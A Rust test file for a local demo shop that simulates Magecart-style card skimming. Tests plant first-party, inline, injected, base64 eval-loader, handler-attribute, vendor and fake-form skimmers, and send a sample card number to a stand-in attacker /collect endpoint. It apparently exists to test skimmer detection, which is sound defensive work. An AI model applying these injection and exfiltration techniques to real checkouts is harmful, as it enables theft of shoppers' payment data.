//! Tests of the demo shop over real sockets, with a hand-written HTTP/1.1 client so the crate
//! needs no HTTP client dependency.

use super::*;
use base64::Engine;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A parsed response: status, headers (names lower-cased) and body.
#[derive(Debug)]
struct Reply {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
    }
}

fn request_bytes(method: &str, base: &str, path: &str, body: &str) -> Vec<u8> {
    let host = base.trim_start_matches("http://");
    format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// Parses a `Connection: close` response. The shop always knows its body length up front, so
/// the body is never chunked.
fn parse(raw: &[u8]) -> Reply {
    let text = String::from_utf8_lossy(raw);
    let (head, body) = text.split_once("\r\n\r\n").expect("response has a header block");
    let mut lines = head.split("\r\n");
    let status_line = lines.next().unwrap();
    let status = status_line.split(' ').nth(1).unwrap().parse().unwrap();
    let headers = lines
        .map(|line| {
            let (name, value) = line.split_once(':').unwrap();
            (name.trim().to_ascii_lowercase(), value.trim().to_string())
        })
        .collect();
    Reply { status, headers, body: body.to_string() }
}

async fn send(method: &str, base: &str, path: &str, body: &str) -> Reply {
    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://")).await.unwrap();
    stream.write_all(&request_bytes(method, base, path, body)).await.unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).await.unwrap();
    parse(&raw)
}

async fn get(base: &str, path: &str) -> Reply {
    send("GET", base, path, "").await
}

#[tokio::test]
async fn checkout_is_served_with_security_headers_and_a_cross_site_iframe() {
    let shop = Shop::start().await.unwrap();
    assert!(shop.base(Origin::Shop).starts_with("http://127.0.0.1:"));
    assert!(shop.base(Origin::Payment).starts_with("http://127.0.0.2:"));
    assert!(shop.checkout_url().ends_with("/checkout"));

    let page = get(&shop.base(Origin::Shop), "/checkout").await;
    assert_eq!(page.status, 200);
    assert_eq!(page.header("content-type"), Some("text/html; charset=utf-8"));
    assert_eq!(page.header("cache-control"), Some("no-store"));
    let csp = page.header("content-security-policy").expect("CSP header");
    assert!(csp.contains(&format!("frame-src {}", shop.base(Origin::Payment))), "{csp}");
    for name in [
        "x-frame-options",
        "x-content-type-options",
        "referrer-policy",
        "strict-transport-security",
        "permissions-policy",
    ] {
        assert!(page.header(name).is_some(), "missing {name}");
    }

    let iframe_src = shop.hosted_fields_url().replace('&', "&amp;");
    assert!(iframe_src.starts_with(&format!("{}/hosted-fields?parent=", shop.base(Origin::Payment))));
    assert!(page.body.contains(&format!("src=\"{iframe_src}\"")), "iframe src not found");
    assert!(page.body.contains(&format!("{}/gtm.js", shop.base(Origin::Vendor))));
    assert!(page.body.contains(r#"autocomplete="cc-name" required"#));
    assert!(page.body.contains(r#"<script src="/static/js/checkout.js"></script>"#));

    // The iframe document, fetched as the browser would, carries the card inputs.
    let path = shop.hosted_fields_url().replace(&shop.base(Origin::Payment), "");
    let fields = get(&shop.base(Origin::Payment), &path).await;
    assert_eq!(fields.status, 200);
    for autocomplete in ["cc-number", "cc-exp", "cc-csc", "cc-name"] {
        assert!(fields.body.contains(&format!("autocomplete=\"{autocomplete}\"")), "{autocomplete}");
    }
    assert_eq!(
        fields.header("content-security-policy"),
        Some(format!("frame-ancestors {}", shop.base(Origin::Shop)).as_str())
    );
}

#[tokio::test]
async fn edits_are_served_at_once_and_unknown_paths_are_404() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);

    assert_eq!(get(&base, "/no/such/file.js").await.status, 404);
    assert_eq!(get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await.status, 404);
    assert_eq!(get(&base, "/favicon.ico").await.status, 204);

    shop.append_to(Origin::Shop, "/static/js/checkout.js", "\n// planted\n");
    assert!(get(&base, "/static/js/checkout.js").await.body.ends_with("// planted\n"));

    shop.set_resource(Origin::Shop, "/new.js", Resource::js("1;").with_header("X-Test", "yes"));
    let new = get(&base, "/new.js?cache=bust").await;
    assert_eq!((new.status, new.body.as_str(), new.header("x-test")), (200, "1;", Some("yes")));

    assert!(shop.remove_header("/checkout", "x-frame-options"));
    shop.set_header("/checkout", "Content-Security-Policy", "default-src *");
    let page = get(&base, "/checkout").await;
    assert_eq!(page.header("x-frame-options"), None);
    assert_eq!(page.header("content-security-policy"), Some("default-src *"));

    shop.reset();
    let page = get(&base, "/checkout").await;
    assert_eq!(page.header("x-frame-options"), Some("DENY"));
    assert_eq!(get(&base, "/new.js").await.status, 404);
}

#[tokio::test]
async fn requests_are_recorded_per_origin() {
    let shop = Shop::start().await.unwrap();
    let stolen = get(&shop.base(Origin::Attacker), "/collect?v=abc").await;
    assert_eq!(stolen.status, 200);
    assert_eq!(stolen.header("access-control-allow-origin"), Some("*"));
    send("POST", &shop.base(Origin::Attacker), "/collect", "card=4111").await;
    get(&shop.base(Origin::Shop), "/checkout").await;

    let attacker = shop.requests_to(Origin::Attacker);
    assert_eq!(attacker.len(), 2);
    assert_eq!((attacker[0].method.as_str(), attacker[0].path.as_str()), ("GET", "/collect?v=abc"));
    assert_eq!(attacker[0].path_only(), "/collect");
    assert_eq!((attacker[1].method.as_str(), attacker[1].body.as_str()), ("POST", "card=4111"));
    assert_eq!(attacker[1].header("Content-Type"), Some("text/plain"));
    assert_eq!(shop.requests().len(), 3);

    let found = shop.wait_for_request(Origin::Attacker, "/collect", Duration::from_millis(10)).await;
    assert_eq!(found.unwrap().path, "/collect?v=abc");
    shop.clear_requests();
    assert!(shop.wait_for_request(Origin::Attacker, "/", Duration::from_millis(50)).await.is_none());
}

#[test]
fn start_in_background_serves_sync_callers_until_dropped() {
    use std::io::{Read, Write};
    let shop = Shop::start_in_background().unwrap();
    let base = shop.base(Origin::Shop);
    let fetch = |path: &str| {
        let mut stream = std::net::TcpStream::connect(base.trim_start_matches("http://")).unwrap();
        stream.write_all(&request_bytes("GET", &base, path, "")).unwrap();
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).unwrap();
        parse(&raw)
    };
    let page = fetch("/checkout");
    assert_eq!(page.status, 200);
    assert!(page.body.contains("Harbor &amp; Pine Outfitters"));
    shop.append_skimmer_to_first_party();
    assert!(fetch("/static/js/checkout.js").body.contains(&shop.exfil_url()));

    let addr = base.trim_start_matches("http://").to_string();
    shop.shutdown();
    assert!(std::net::TcpStream::connect(addr).is_err(), "server still accepting after shutdown");
}

/// Fails on any syntax error, so neither the default content nor a planted attack can break
/// the page by accident.
fn assert_parses(what: &str, source: &str) {
    let allocator = oxc_allocator::Allocator::default();
    let parsed = oxc_parser::Parser::new(&allocator, source, oxc_span::SourceType::cjs()).parse();
    assert!(
        !parsed.panicked && parsed.diagnostics.is_empty(),
        "{what} does not parse: {:?}\n{source}",
        parsed.diagnostics
    );
}

/// The contents of every inline `<script>` (without `src`) in a page.
fn inline_scripts(html: &str) -> Vec<String> {
    let mut scripts = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find("<script") {
        let tag_end = start + rest[start..].find('>').unwrap();
        let close = tag_end + rest[tag_end..].find("</script>").unwrap();
        if !rest[start..tag_end].contains("src=") {
            scripts.push(rest[tag_end + 1..close].to_string());
        }
        rest = &rest[close..];
    }
    scripts
}

#[tokio::test]
async fn every_script_and_every_attack_parses() {
    let shop = Shop::start().await.unwrap();
    let planted = [
        shop.append_skimmer_to_first_party(),
        shop.add_inline_script(&shop.inline_skimmer_code()),
        shop.add_injected_script(),
        shop.add_eval_loader(),
        shop.alter_iframe_script(),
        shop.add_handler_attribute(),
        shop.alter_vendor_script(),
        shop.add_fake_payment_form(),
    ];
    for attack in &planted {
        assert!(!attack.code.is_empty());
        assert!(attack.modified.starts_with("http://127.0.0."), "{}", attack.modified);
    }
    // Each attack sends to the attacker (the eval loader hides the URL in base64).
    let eval = &planted[3].code;
    let encoded = eval.split('"').nth(1).unwrap();
    let decoded = String::from_utf8(base64::engine::general_purpose::STANDARD.decode(encoded).unwrap()).unwrap();
    assert_parses("eval payload", &decoded);
    assert!(decoded.contains(&shop.exfil_url()));

    for (origin, path) in shop.paths() {
        let resource = shop.resource(origin, &path).unwrap();
        if resource.content_type.starts_with("text/javascript") {
            assert_parses(&format!("{origin} {path}"), &resource.body);
        }
        if resource.content_type.starts_with("text/html") {
            for script in inline_scripts(&resource.body) {
                assert_parses(&format!("inline script of {path}"), &script);
            }
        }
    }
    let page = shop.get_body(Origin::Shop, "/checkout").unwrap();
    assert_eq!(inline_scripts(&page).len(), 3, "config + CMS skimmer + fake form");
    assert_parses("onerror handler", &planted[5].code);
    assert!(page.contains(&format!("onerror=\"{}\"", planted[5].code)));
    assert!(planted[5].code.chars().all(|c| c != '"' && c != '&'));

    let injected = planted[2].added.as_deref().unwrap();
    let payload = get(&shop.base(Origin::Attacker), "/js/jquery-3.7.1.min.js").await;
    assert_eq!(payload.status, 200);
    assert_eq!(injected, shop.url(Origin::Attacker, "/js/jquery-3.7.1.min.js"));
    assert!(page.contains(injected));
}

#[tokio::test]
async fn default_content_does_not_depend_on_ports_except_in_pages() {
    // Two shops get different ports; their scripts must still be byte-identical, so a
    // baseline's hashes mean the same on every run.
    let a = Shop::start().await.unwrap();
    let b = Shop::start().await.unwrap();
    for (origin, path) in a.paths() {
        let resource = a.resource(origin, &path).unwrap();
        if resource.content_type.starts_with("text/javascript") {
            assert_eq!(Some(resource.body), b.get_body(origin, &path), "{origin} {path}");
        }
    }
}

#[test]
fn dynamic_route_answers_per_request() {
    let shop = Shop::start_in_background().unwrap();
    shop.set_dynamic(Origin::Shop, "/ua", |req| {
        let ua = req.header("user-agent").unwrap_or("none").to_string();
        Resource::js(format!("/* {ua} */"))
    });
    let body = http_get_with_ua(&shop.url(Origin::Shop, "/ua"), "TestAgent/1");
    assert!(body.contains("/* TestAgent/1 */"), "{body}");
    shop.remove_dynamic(Origin::Shop, "/ua");
    assert!(http_get_with_ua(&shop.url(Origin::Shop, "/ua"), "x").contains("404"));
}

/// Minimal blocking HTTP/1.1 GET with a user agent; returns the whole response text.
fn http_get_with_ua(url: &str, ua: &str) -> String {
    use std::io::{Read, Write};
    let rest = url.trim_start_matches("http://");
    let (host, path) = rest.split_once('/').map(|(h, p)| (h, format!("/{p}"))).unwrap();
    let mut s = std::net::TcpStream::connect(host).unwrap();
    write!(s, "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nConnection: close\r\n\r\n").unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    out
}

#[tokio::test]
async fn platform_checkouts_are_served_with_their_fields() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    let m1 = get(&base, Checkout::Magento1.path()).await;
    assert_eq!((m1.status, m1.header("content-type")), (200, Some("text/html; charset=utf-8")));
    for needle in [
        r#"<ol class="opc" id="checkoutSteps">"#,
        "billing[firstname]",
        "billing[lastname]",
        "billing[email]",
        "billing[street][]",
        "billing[city]",
        "billing[region_id]",
        "billing[postcode]",
        "billing[country_id]",
        "billing[telephone]",
        r#"<button type="button" title="Continue" class="button" onclick="billing.save()"><span><span>Continue</span></span></button>"#,
        r#"name="shipping_method""#,
        r#"onclick="shippingMethod.save()""#,
        r#"value="checkmo" type="radio" name="payment[method]""#,
        r#"value="ccsave" type="radio" name="payment[method]""#,
        r#"<ul class="form-list" id="payment_form_ccsave" style="display:none;">"#,
        "payment[cc_owner]",
        r#"<option value="JCB">JCB</option>"#,
        "payment[cc_number]",
        "payment[cc_exp_month]",
        "payment[cc_exp_year]",
        "payment[cc_cid]",
        r#"onclick="payment.save()""#,
        r#"name="agreement[1]""#,
        r#"<button type="submit" title="Place Order" class="button btn-checkout" onclick="review.save();">Place Order</button>"#,
        "var review = new Review('/m1/checkout/onepage/saveOrder'",
    ] {
        assert!(m1.body.contains(needle), "Magento 1 page lacks {needle}");
    }
    let woo = get(&base, Checkout::WooCommerce.path()).await;
    assert_eq!(woo.status, 200);
    for needle in [
        r#"<form name="checkout" method="post" class="checkout woocommerce-checkout""#,
        r#"name="billing_first_name""#,
        r#"name="billing_last_name""#,
        r#"name="billing_company""#,
        r#"name="billing_country""#,
        r#"name="billing_address_1""#,
        r#"name="billing_city""#,
        r#"name="billing_state""#,
        r#"name="billing_postcode""#,
        r#"name="billing_phone""#,
        r#"name="billing_email""#,
        r#"name="payment_method" value="bacs""#,
        r#"name="payment_method" value="cod""#,
        r#"name="payment_method" value="card_gateway""#,
        r#"<div class="payment_box payment_method_card_gateway" style="display:none;">"#,
        r#"id="card_gateway-card-number""#,
        r#"id="card_gateway-card-expiry""#,
        r#"id="card_gateway-card-cvc""#,
        r#"id="terms""#,
        r#"<button type="submit" class="button alt" name="woocommerce_checkout_place_order" id="place_order" value="Place order">Place order</button>"#,
        r#""checkout_url":"\/?wc-ajax=checkout""#,
    ] {
        assert!(woo.body.contains(needle), "WooCommerce page lacks {needle}");
    }
    // Every file the pages name is served.
    for (page, body) in [(Checkout::Magento1, &m1.body), (Checkout::WooCommerce, &woo.body)] {
        for attr in ["src=\"", "href=\""] {
            for part in body.split(attr).skip(1) {
                let url = part.split('"').next().unwrap();
                if url.starts_with(&format!("/{}", &page.path()[1..4]))
                    && (url.ends_with(".js") || url.ends_with(".css"))
                {
                    assert_eq!(get(&base, url).await.status, 200, "{url}");
                }
            }
        }
    }
    // The steps answer as the platforms do, and the scripts a shopper needs are there.
    let billing = send("POST", &base, "/m1/checkout/onepage/saveBilling", "billing%5Bfirstname%5D=Aoife").await;
    assert_eq!(billing.body, r#"{"goto_section":"shipping_method"}"#);
    let review = send("POST", &base, "/?wc-ajax=update_order_review", "security=a83c61f0b2").await;
    assert!(review.body.contains(r#""result":"success""#), "{}", review.body);
    let jquery = get(&base, "/woo/wp-includes/js/jquery/jquery.min.js").await.body;
    assert!(jquery.contains("window.jQuery = window.$ = $"));
    // The home page still answers any other query of `/`.
    assert!(get(&base, "/?utm_source=mail").await.body.contains("Harbor &amp; Pine"));
}

#[tokio::test]
async fn order_endpoints_are_recorded_and_answered() {
    let shop = Shop::start().await.unwrap();
    let base = shop.base(Origin::Shop);
    assert!(Checkout::ALL.iter().all(|c| shop.order_requests(*c).is_empty()));
    send("POST", &base, "/m1/checkout/onepage/savePayment", "payment%5Bmethod%5D=ccsave").await;
    send("POST", &base, "/?wc-ajax=update_order_review", "x=1").await;
    assert!(Checkout::ALL.iter().all(|c| shop.order_requests(*c).is_empty()), "step requests are no orders");

    let m1 =
        send("POST", &base, Checkout::Magento1.order_path(), "payment%5Bmethod%5D=ccsave&agreement%5B1%5D=1").await;
    assert_eq!(m1.body, r#"{"success":true,"redirect":"/m1/checkout/onepage/success/"}"#);
    let woo = send("POST", &base, Checkout::WooCommerce.order_path(), "billing_first_name=Aoife").await;
    assert_eq!(woo.body, r#"{"result":"success","redirect":"/woo/checkout/order-received/"}"#);
    assert_eq!(get(&base, "/m1/checkout/onepage/success/").await.status, 200);
    assert_eq!(get(&base, "/woo/checkout/order-received/").await.status, 200);

    let m1_orders = shop.order_requests(Checkout::Magento1);
    assert_eq!(m1_orders.len(), 1);
    assert_eq!((m1_orders[0].method.as_str(), m1_orders[0].path.as_str()), ("POST", "/m1/checkout/onepage/saveOrder"));
    assert!(m1_orders[0].body.contains("agreement%5B1%5D=1"));
    let woo_orders = shop.order_requests(Checkout::WooCommerce);
    assert_eq!(woo_orders.len(), 1);
    assert_eq!(
        (woo_orders[0].path.as_str(), woo_orders[0].body.as_str()),
        ("/?wc-ajax=checkout", "billing_first_name=Aoife")
    );
}

#[tokio::test]
async fn a_wake_skimmer_changes_only_its_checkout_and_reset_restores_it() {
    let shop = Shop::start().await.unwrap();
    let snapshot = || -> HashMap<(Origin, String), Resource> {
        shop.paths().into_iter().map(|k| (k.clone(), shop.resource(k.0, &k.1).unwrap())).collect()
    };
    let clean = snapshot();
    let names: std::collections::HashSet<_> = Wake::ALL.iter().map(|w| w.name()).collect();
    let exfil: std::collections::HashSet<_> = Wake::ALL.iter().map(|w| w.exfil_path()).collect();
    assert_eq!((names.len(), exfil.len()), (8, 8));
    assert_eq!(Wake::ALL.iter().filter(|w| w.checkout() == Checkout::Magento1).count(), 4);

    for wake in Wake::ALL {
        let checkout = wake.checkout();
        let before_plant = snapshot();
        shop.plant_wake_skimmer(wake);
        let code = shop.wake_skimmer_code(wake);
        assert!(!code.contains("{{"), "{} has an unfilled placeholder", wake.name());
        let target = if wake.exfil_path() == "/ws" {
            shop.exfil_websocket_url()
        } else {
            shop.url(Origin::Attacker, wake.exfil_path())
        };
        assert!(code.contains(&target), "{} does not send to {target}", wake.name());

        // The code sits where wake_skimmer_script_url says, and the page reaches it.
        let script = shop.wake_skimmer_script_url(wake);
        let (origin, path) = if let Some(path) = script.strip_prefix(&shop.base(Origin::Shop)) {
            (Origin::Shop, path.to_string())
        } else {
            (Origin::Attacker, script.strip_prefix(&shop.base(Origin::Attacker)).unwrap().to_string())
        };
        let carrier = get(&shop.base(origin), &path).await;
        assert_eq!(carrier.status, 200);
        assert!(carrier.body.contains(code.trim()), "{} not in {script}", wake.name());
        if origin == Origin::Attacker {
            assert!(shop.get_body(Origin::Shop, checkout.path()).unwrap().contains(&script), "{}", wake.name());
        }

        // Everything of the other checkout (and of the main one) is as it was; the planted
        // checkout's files hold this skimmer only, not the one planted before.
        for ((o, p), before) in &before_plant {
            let now = shop.resource(*o, p).unwrap();
            let ours = *o == Origin::Shop && p.starts_with(&checkout.path()[..4]);
            assert!(ours || &now == before, "{} changed {o} {p}", wake.name());
        }
        let page_or_script_changed = [checkout.path(), path.as_str()]
            .iter()
            .any(|p| shop.resource(Origin::Shop, p) != clean.get(&(Origin::Shop, p.to_string())).cloned());
        assert!(page_or_script_changed, "{} changed nothing of its checkout", wake.name());
        for other in Wake::ALL.iter().filter(|w| **w != wake && w.checkout() == checkout) {
            let other_code = shop.wake_skimmer_code(*other);
            for (o, p) in shop.paths().into_iter().filter(|(o, _)| *o == Origin::Shop) {
                assert!(!shop.get_body(o, &p).unwrap().contains(other_code.trim()), "{} left in {p}", other.name());
            }
        }
        for (o, p) in shop.paths() {
            let resource = shop.resource(o, &p).unwrap();
            if resource.content_type.starts_with("text/javascript") {
                assert_parses(&format!("{} {o} {p}", wake.name()), &resource.body);
            }
            if resource.content_type.starts_with("text/html") {
                for script in inline_scripts(&resource.body) {
                    assert_parses(&format!("{}: inline script of {p}", wake.name()), &script);
                }
            }
        }
    }

    shop.reset();
    for ((o, p), before) in &clean {
        assert!(shop.resource(*o, p).as_ref() == Some(before), "reset left {o} {p} changed");
    }
    assert_eq!(shop.paths().len(), clean.len(), "reset removes the attacker's scripts");
}

#[tokio::test]
async fn platform_checkouts_are_identical_on_every_load() {
    let shop = Shop::start().await.unwrap();
    for checkout in Checkout::ALL {
        let a = get(&shop.base(Origin::Shop), checkout.path()).await.body;
        let b = get(&shop.base(Origin::Shop), checkout.path()).await.body;
        assert_eq!(a, b);
        assert!(!a.contains(&shop.base(Origin::Shop)), "the clean page names no port");
    }
}
